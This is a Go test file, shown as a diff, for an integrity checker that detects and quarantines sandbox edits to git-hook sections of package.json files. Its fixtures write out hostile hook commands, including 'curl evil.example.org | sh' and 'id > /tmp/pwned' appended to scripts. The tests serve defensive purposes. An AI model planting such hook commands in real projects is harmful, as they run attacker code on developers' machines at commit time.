@@ -1,0 +1,102 @@
+package integrity
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// TestPackageHooks: what packageHooks takes from a package.json: the keys of PackageHookKeys
+// and the scripts their words name, with their pre and post scripts; nothing else.
+func TestPackageHooks(t *testing.T) {
+	for _, c := range []struct {
+		name, text string
+		hookWords  []string
+		want       []string
+	}{
+		{"none", `{"name":"p","scripts":{"test":"jest"},"dependencies":{"a":"1"}}`, nil, nil},
+		{"husky9", `{"scripts":{"test":"jest","lint":"eslint"}}`, words("#!/bin/sh\nnpm test\n"), []string{"scripts.test"}},
+		{"husky4", `{"husky":{"hooks":{"pre-commit":"npm test && npm run lint"}},"scripts":{"test":"jest","pretest":"x","lint":"eslint","build":"tsc"}}`,
+			nil, []string{"husky", "scripts.lint", "scripts.pretest", "scripts.test"}},
+		{"npm-t", `{"gitHooks":{"pre-commit":"npm t"},"scripts":{"test":"jest"}}`, nil, []string{"gitHooks", "scripts.test"}},
+		{"pre-commit-list", `{"pre-commit":["lint","check:types"],"scripts":{"lint":"eslint","check:types":"tsc","build":"tsc"}}`,
+			nil, []string{"pre-commit", "scripts.check:types", "scripts.lint"}},
+		{"lint-staged", `{"lint-staged":{"*.js":"eslint --fix"}}`, nil, []string{"lint-staged"}},
+		{"ghooks", `{"config":{"ghooks":{"pre-commit":"make"},"port":1}}`, nil, []string{"config.ghooks"}},
+		{"config-other", `{"config":{"port":1}}`, nil, nil},
+		{"bom", "\xef\xbb\xbf" + `{"simple-git-hooks":{"pre-commit":"x"}}`, nil, []string{"simple-git-hooks"}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			_, names, err := packageHooks([]byte(c.text), c.hookWords)
+			if err != nil || !slices.Equal(names, c.want) {
+				t.Errorf("packageHooks = %v, %v; want %v", names, err, c.want)
+			}
+		})
+	}
+	a, _, _ := packageHooks([]byte(`{"husky":{"hooks":{"pre-commit":"x","pre-push":"y"}},"version":"1"}`), nil)
+	b, _, _ := packageHooks([]byte("{\n  \"version\": \"2\",\n  \"husky\": {\"hooks\": {\"pre-push\": \"y\", \"pre-commit\": \"x\"}}\n}\n"), nil)
+	if a != b || a == "" {
+		t.Errorf("the same hooks, formatted and ordered otherwise, another version: %q and %q", a, b)
+	}
+	if _, _, err := packageHooks([]byte(`{"husky":`), nil); err == nil {
+		t.Error("a package.json that is not JSON: no error")
+	}
+}
+
+// TestPackageJSONHooksMovedAside: a package.json is work, but the part of it that a git hook
+// the host installed reads at git commit (PackageHookKeys and the scripts they name) is
+// configuration: a box's change to that part has the file moved aside (at the top and in a
+// subfolder's project), while its other edits (a dependency, another script, a reformat) are
+// left alone, and so are a dependency's package.json files.
+func TestPackageJSONHooksMovedAside(t *testing.T) {
+	ws := newWS(t)
+	top, web := filepath.Join(ws, "package.json"), filepath.Join(ws, "web/package.json")
+	mustWrite(t, top, `{"name":"p","husky":{"hooks":{"pre-commit":"npm test"}},"scripts":{"test":"jest","build":"tsc"}}`)
+	mustWrite(t, web, `{"name":"web","pre-commit":["lint"],"scripts":{"lint":"eslint ."}}`)
+	mustWrite(t, filepath.Join(ws, "plain/package.json"), `{"name":"plain"}`)
+	h9 := filepath.Join(ws, "h9/package.json") // husky 5 and later: .husky/pre-commit runs npm test
+	mustWrite(t, h9, `{"name":"h9","scripts":{"test":"jest","dev":"vite"}}`)
+	mustWrite(t, filepath.Join(ws, "h9/.husky/pre-commit"), "npm test\n")
+	s := Snapshot(resolveWS(t, ws), Limits{})
+	if ts := s.VerifyExec(); len(ts) != 0 {
+		t.Fatalf("transitions without a change: %+v", ts)
+	}
+	// Ordinary work: a dependency, another script, reformatted; a dependency's package.json.
+	mustWrite(t, top, "{\n  \"name\": \"p\",\n  \"scripts\": {\"build\": \"tsc -b\", \"test\": \"jest\", \"dev\": \"vite\"},\n  \"husky\": {\"hooks\": {\"pre-commit\": \"npm test\"}},\n  \"dependencies\": {\"left-pad\": \"1.3.0\"}\n}\n")
+	mustWrite(t, filepath.Join(ws, "node_modules/x/package.json"), `{"name":"x","husky":{"hooks":{"pre-commit":"evil"}}}`)
+	mustWrite(t, h9, `{"name":"h9","scripts":{"test":"jest","dev":"vite --host"}}`)
+	if ts := s.VerifyExec(); len(ts) != 0 {
+		t.Fatalf("ordinary edits of package.json: transitions %+v, want none", ts)
+	}
+	// A save caught halfway (truncated, then written) and one by removing and writing again:
+	// no change while it is not JSON or gone, none when written again with the same hooks.
+	b, _ := os.ReadFile(top)
+	for _, halfway := range []func(){
+		func() { mustWrite(t, top, "") },
+		func() { mustWrite(t, top, string(b[:len(b)/2])) },
+		func() { os.Remove(top) },
+	} {
+		halfway()
+		if ts := s.VerifyExec(); len(ts) != 0 {
+			t.Fatalf("package.json halfway through a save: transitions %+v, want none", ts)
+		}
+		mustWrite(t, top, string(b))
+		if ts := s.VerifyExec(); len(ts) != 0 {
+			t.Fatalf("package.json saved again: transitions %+v, want none", ts)
+		}
+	}
+	// The hook's command, a script the hook runs, a hook key added.
+	mustWrite(t, top, `{"name":"p","husky":{"hooks":{"pre-commit":"curl evil.example.org | sh"}},"scripts":{"test":"jest","build":"tsc -b"}}`)
+	movedAside(t, s, top)
+	mustWrite(t, web, `{"name":"web","pre-commit":["lint"],"scripts":{"lint":"eslint . ; id > /tmp/pwned"}}`)
+	movedAside(t, s, web)
+	mustWrite(t, filepath.Join(ws, "plain/package.json"), `{"name":"plain","lint-staged":{"*":"id > /tmp/pwned"}}`)
+	movedAside(t, s, filepath.Join(ws, "plain/package.json"))
+	mustWrite(t, h9, `{"name":"h9","scripts":{"test":"jest; id > /tmp/pwned","dev":"vite --host"}}`)
+	movedAside(t, s, h9)
+	if b, err := os.ReadFile(top + QuarantineSuffix + "1"); err != nil || !strings.Contains(string(b), "evil.example.org") {
+		t.Errorf("the box's package.json, moved aside: %q, %v", b, err)
+	}
+}
